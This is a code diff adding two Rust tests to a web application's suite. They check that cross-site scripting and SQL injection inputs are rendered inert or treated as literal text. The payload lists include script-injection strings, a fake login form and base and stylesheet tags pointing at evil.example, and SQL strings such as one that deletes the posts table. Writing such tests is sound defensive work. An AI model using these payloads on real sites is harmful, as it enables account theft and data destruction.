@@ -136,3 +136,132 @@ async fn sql_in_any_parameter_is_a_literal() {
     }
     assert_eq!(ada.get("/").await.texts(".card").len(), 1);
 }
+
+// XSS-04
+#[tokio::test]
+async fn hostile_text_is_inert_in_every_place_that_shows_text() {
+    let site = Site::new().await;
+    let ada = site.member("ada").await;
+    let more = [
+        "<img src=x onerror=alert(1)//",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
+        "<form action=//evil.example><input name=password><button>x",
+        "<base href=//evil.example>",
+        "<style>@import '//evil.example'</style>",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<div style=\"position:fixed\" onclick=alert(1)>x</div>",
+        "[x]: javascript:alert(1)\n\n[x]",
+        "![x](javascript:alert(1) \"onerror=alert(1)\")",
+        "`</code><script>alert(1)</script>`",
+        "```<script>\nx\n```",
+        "<!--><script>alert(1)</script>-->",
+        "# </h2><script>alert(1)</script>",
+        "[^a]\n\n[^a]: <iframe srcdoc='<script>alert(1)</script>'>",
+        "a|b\n-|-\n<script>alert(1)</script>|x",
+    ];
+    for text in HOSTILE.into_iter().chain(more) {
+        let title: String = text.replace(['\n', '\t'], " ").chars().take(150).collect();
+        let about: String = text.chars().take(140).collect();
+        let fields = [
+            ("username", "ada"),
+            ("email", "ada@example.org"),
+            ("about", &about),
+        ];
+        ada.post("/account", &fields).await;
+        let address = ada.publish(&title, &format!("seen\n\n{text}")).await;
+        let id = app::paths::post_id(address.rsplit('/').next().unwrap()).unwrap();
+        let draft = ada
+            .post(
+                "/post/new",
+                &[("title", &title), ("content", text), ("intent", "save")],
+            )
+            .await
+            .location();
+        let preview = [
+            ("title", title.as_str()),
+            ("content", text),
+            ("intent", "preview"),
+        ];
+        assert_inert(&ada.post("/post/new", &preview).await);
+        let escaped: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
+        for path in [
+            &address,
+            "/",
+            "/user/ada",
+            "/explore",
+            &format!("/explore?q={escaped}"),
+            &draft,
+            "/account",
+            "/account/drafts",
+            &format!("/post/update?post={id}"),
+            &format!("/post/delete?post={id}"),
+        ] {
+            assert_inert(&ada.get(path).await);
+        }
+        let shown = ada.get(&address).await;
+        for forbidden in [
+            "form",
+            "input",
+            "style",
+            "base",
+            "[style]",
+            "[onerror]",
+            "[onclick]",
+        ] {
+            assert!(
+                shown.texts(&format!(".prose {forbidden}")).is_empty(),
+                "{forbidden}: {text}"
+            );
+        }
+        ada.post("/post/trash", &[("id", &id.to_string())]).await;
+        assert_inert(&ada.get("/account/trash").await);
+        ada.post("/draft/discard", &[("id", draft.rsplit('=').next().unwrap())])
+            .await;
+    }
+}
+
+// INJ-01
+#[tokio::test]
+async fn sql_in_the_parameters_of_posts_and_writers_is_a_literal() {
+    let site = Site::new().await;
+    let ada = site.member("ada").await;
+    for sql in [
+        "' OR '1'='1",
+        "x'; DELETE FROM posts; --",
+        "%",
+        "_",
+        "\\",
+        "\"",
+        "1)) UNION SELECT 1 --",
+    ] {
+        let address = ada.publish(sql, sql).await;
+        assert_eq!(ada.get(&address).await.text("h1"), sql);
+        let escaped: String = form_urlencoded::byte_serialize(sql.as_bytes()).collect();
+        let found = ada.get(&format!("/explore?q={escaped}")).await;
+        assert_eq!(
+            (found.status.as_u16(), found.texts(".writer").len()),
+            (200, 0),
+            "{sql}"
+        );
+        for path in [
+            "/post/update?post=",
+            "/post/delete?post=",
+            "/post/new?draft=",
+            "/account/trash?page=",
+        ] {
+            assert_eq!(
+                ada.get(&format!("{path}{escaped}")).await.status,
+                404,
+                "{path}{sql}"
+            );
+        }
+        for path in ["/post/trash", "/post/restore", "/draft/discard"] {
+            let status = ada.post(path, &[("id", sql)]).await.status;
+            assert!(status.is_client_error(), "{path} {sql}: {status}");
+        }
+        let fields = [("title", sql), ("content", sql), ("draft", sql), ("post", sql)];
+        assert_eq!(ada.post("/post/new", &fields).await.status, 400, "{sql}");
+    }
+    assert_eq!(ada.get("/?page=2").await.texts(".card").len(), 2);
+}
